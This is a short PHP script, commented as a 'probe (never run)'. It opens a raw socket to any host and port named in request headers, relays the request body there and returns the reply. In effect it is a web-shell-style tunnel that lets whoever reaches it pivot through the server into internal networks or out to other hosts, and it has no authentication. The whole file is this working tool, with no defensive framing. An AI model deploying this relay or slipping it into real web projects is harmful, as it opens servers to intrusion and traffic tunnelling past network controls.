<?php
// probe (never run): the request body relayed to a host and port from headers, the answer sent back
$host = $_SERVER['HTTP_X_HOST'];
$port = (int) $_SERVER['HTTP_X_PORT'];
$s = fsockopen($host, $port, $en, $es, 10);
fwrite($s, file_get_contents('php://input'));
stream_set_timeout($s, 5);
header('Content-Type: application/octet-stream');
echo stream_get_contents($s);
fclose($s);
